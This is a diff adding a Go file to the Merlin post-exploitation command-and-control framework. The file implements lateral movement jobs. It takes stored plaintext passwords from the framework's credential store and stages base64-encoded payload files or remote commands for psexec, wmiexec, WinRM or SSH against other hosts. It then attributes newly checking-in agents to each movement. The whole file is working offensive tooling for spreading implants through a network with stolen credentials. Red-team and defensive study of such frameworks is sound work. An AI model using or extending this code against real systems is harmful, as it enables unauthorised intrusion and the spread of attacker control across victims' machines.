@@ -0,0 +1,233 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agents
+
+import (
+	// Standard
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"github.com/satori/go.uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/api"
+	"github.com/Ne0nd0g/merlin/pkg/creds"
+	"github.com/Ne0nd0g/merlin/pkg/logging"
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// MoveMethods are the lateral movement methods and the agent platforms that can use them
+var MoveMethods = map[string][]string{
+	"psexec":  {"windows"},
+	"wmiexec": {"windows"},
+	"winrm":   {"windows"},
+	"ssh":     {"windows", "linux", "darwin"},
+}
+
+// Movement is a move job that copied or staged a payload on a remote host and the agent that checked in from it
+type Movement struct {
+	Job      string    `json:"job"`
+	Agent    uuid.UUID `json:"agent"` // The agent that ran the move job
+	Method   string    `json:"method"`
+	Host     string    `json:"host"`
+	User     string    `json:"user"`
+	Sent     time.Time `json:"sent"`
+	Status   string    `json:"status"`   // sent, ran, failed, or completed once an agent checked in from the host
+	NewAgent uuid.UUID `json:"newAgent"` // The agent that checked in from the host; uuid.Nil until it does
+}
+
+// movements are the move jobs sent to agents, keyed by job ID
+var movements = struct {
+	sync.Mutex
+	m map[string]*Movement
+}{m: make(map[string]*Movement)}
+
+// ParseMove parses the arguments of a move job into a Move message. The arguments are the method, the remote host, the
+// credential ID, and either "file" followed by the local payload file and the path to copy it to on the remote host, or
+// "command" followed by the command to run on the remote host. The payload file is not read.
+func ParseMove(agentID uuid.UUID, args []string) (messages.Move, error) {
+	var m messages.Move
+	if len(args) < 5 {
+		return m, api.Errorf(api.InvalidOption, "the move job requires a method, host, credential ID, and a payload or command")
+	}
+	m.Method, m.Host = args[0], args[1]
+	platforms, ok := MoveMethods[m.Method]
+	if !ok {
+		return m, api.Errorf(api.InvalidOption, "%s is not a valid move method", m.Method)
+	}
+	if isAgent(agentID) && Agents[agentID].Platform != "" {
+		var supported bool
+		for _, p := range platforms {
+			supported = supported || p == Agents[agentID].Platform
+		}
+		if !supported {
+			return m, api.Errorf(api.InvalidOption, "the %s move method can not be used by %s agents", m.Method,
+				Agents[agentID].Platform)
+		}
+	}
+	if m.Host == "" || strings.ContainsAny(m.Host, " \t\r\n\\/\"'") {
+		return m, api.Errorf(api.InvalidOption, "%q is not a valid host", m.Host)
+	}
+	id, err := strconv.Atoi(args[2])
+	if err != nil {
+		return m, api.Errorf(api.InvalidOption, "%s is not a valid credential ID", args[2])
+	}
+	c, err := creds.Get(id)
+	if err != nil {
+		return m, api.Errorf(api.NotFound, "%s", err.Error())
+	}
+	// Every method authenticates with a password; a hash or crypt can not be passed to the Windows or ssh clients
+	if c.Type != creds.Password {
+		return m, api.Errorf(api.InvalidOption, "credential %d is a %s hash; the move methods require a password", id, c.Type)
+	}
+	m.Domain, m.User, m.Secret = c.Domain, c.User, c.Secret
+	switch args[3] {
+	case "file":
+		if len(args) < 6 {
+			return m, api.Errorf(api.InvalidOption, "the move job requires a payload file and a remote path")
+		}
+		m.Path = args[5]
+	case "command":
+		m.Command = args[4]
+	default:
+		return m, api.Errorf(api.InvalidOption, "%s is not a valid move payload type", args[3])
+	}
+	return m, nil
+}
+
+// moveMessage returns the Move message for a move job with the payload file read into it and records the movement so
+// the agent that checks in from the remote host can be attributed to the job
+func moveMessage(agentID uuid.UUID, job Job) (messages.Move, error) {
+	m, err := ParseMove(agentID, job.Args)
+	if err != nil {
+		return m, err
+	}
+	m.Job = job.ID
+	if job.Args[3] == "file" {
+		payload, err := ioutil.ReadFile(job.Args[4])
+		if err != nil {
+			return m, fmt.Errorf("there was an error reading the payload %s:\r\n%s", job.Args[4], err.Error())
+		}
+		m.Payload = base64.StdEncoding.EncodeToString(payload)
+		Log(agentID, fmt.Sprintf("Sending payload %s of size %d bytes to copy to %s on %s with %s", job.Args[4],
+			len(payload), m.Path, m.Host, m.Method))
+	} else {
+		Log(agentID, fmt.Sprintf("Sending command to run on %s with %s", m.Host, m.Method))
+	}
+	user := m.User
+	if m.Domain != "" {
+		user = m.Domain + `\` + m.User
+	}
+	movements.Lock()
+	movements.m[job.ID] = &Movement{
+		Job:    job.ID,
+		Agent:  agentID,
+		Method: m.Method,
+		Host:   m.Host,
+		User:   user,
+		Sent:   time.Now().UTC(),
+		Status: "sent",
+	}
+	movements.Unlock()
+	return m, nil
+}
+
+// GetMovements returns a copy of the move jobs sent to agents sorted by the time they were sent
+func GetMovements() []Movement {
+	movements.Lock()
+	list := make([]Movement, 0, len(movements.m))
+	for _, m := range movements.m {
+		list = append(list, *m)
+	}
+	movements.Unlock()
+	sort.Slice(list, func(i, j int) bool { return list[i].Sent.Before(list[j].Sent) })
+	return list
+}
+
+// moveResult updates the status of a move job's movement when the agent returns its results, unless an agent already
+// checked in from the remote host
+func moveResult(jobID string, failed bool) {
+	movements.Lock()
+	defer movements.Unlock()
+	m, ok := movements.m[jobID]
+	if !ok || m.Status != "sent" {
+		return
+	}
+	m.Status = "ran"
+	if failed {
+		m.Status = "failed"
+	}
+}
+
+// moveCheckIn reports the agent as the result of the oldest open movement to one of its host names or addresses the
+// first time the agent sends its information
+func moveCheckIn(agentID uuid.UUID, info messages.SysInfo) {
+	var found *Movement
+	movements.Lock()
+	for _, m := range movements.m {
+		if (m.Status != "sent" && m.Status != "ran") || m.Agent == agentID || !moveTarget(m.Host, info) {
+			continue
+		}
+		if found == nil || m.Sent.Before(found.Sent) {
+			found = m
+		}
+	}
+	if found != nil {
+		found.Status = "completed"
+		found.NewAgent = agentID
+	}
+	movements.Unlock()
+	if found == nil {
+		return
+	}
+	note := fmt.Sprintf("Agent %s checked in from %s after move job %s of agent %s with %s", agentID, found.Host,
+		found.Job, found.Agent, found.Method)
+	message("success", note)
+	logging.Server(note)
+	Log(agentID, note)
+	if isAgent(found.Agent) {
+		Log(found.Agent, note)
+	}
+}
+
+// moveTarget returns true if the movement's host is one of the agent's host names or addresses
+func moveTarget(host string, info messages.SysInfo) bool {
+	if h, _, err := net.SplitHostPort(host); err == nil {
+		host = h
+	}
+	host = strings.ToLower(strings.Trim(host, "[]"))
+	name := strings.ToLower(info.HostName)
+	if host == name || (net.ParseIP(host) == nil && strings.SplitN(host, ".", 2)[0] == strings.SplitN(name, ".", 2)[0]) {
+		return true
+	}
+	for _, ip := range info.Ips {
+		// Addresses are reported in CIDR notation
+		if strings.ToLower(strings.SplitN(ip, "/", 2)[0]) == host {
+			return true
+		}
+	}
+	return false
+}